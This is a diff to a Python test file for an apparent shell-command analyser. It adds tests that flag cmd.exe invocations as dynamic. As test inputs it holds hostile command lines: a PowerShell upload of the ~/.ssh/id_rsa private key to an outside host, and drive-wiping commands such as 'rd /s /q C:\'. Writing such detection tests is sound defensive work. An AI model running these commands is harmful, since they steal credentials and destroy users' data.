@@ -125,3 +125,17 @@ def test_elixirs_iex_and_posix_names_are_not_cmdlets(line: str) -> None:
 def test_web_input_file_is_curls_upload() -> None:
     curl = one(run("iwr https://x.example -Method Put -InFile ~/.ssh/id_rsa"), "curl")
     assert curl.args[:2] == ("-T", "/home/u/.ssh/id_rsa")
+
+
+@pytest.mark.parametrize("line", [
+    'cmd /c "rd /s /q C:\\"', "CMD.EXE /C dir", 'cmd /d /s /c "del /q x"', "cmd /Cdir",
+    "cmd /k set", "echo rd /s /q C:\\ | cmd", "sudo cmd /c x", "cmd $X",
+])
+def test_cmd_exe_code_is_dynamic(line: str) -> None:
+    assert any(c.program == "cmd" and c.dynamic == DYNAMIC_NAME
+               for c in run(line).commands), show(run(line))
+
+
+@pytest.mark.parametrize("line", ["cmd /?", "cmd"])
+def test_cmd_exe_running_nothing_is_not(line: str) -> None:
+    assert not any(c.dynamic for c in run(line).commands)
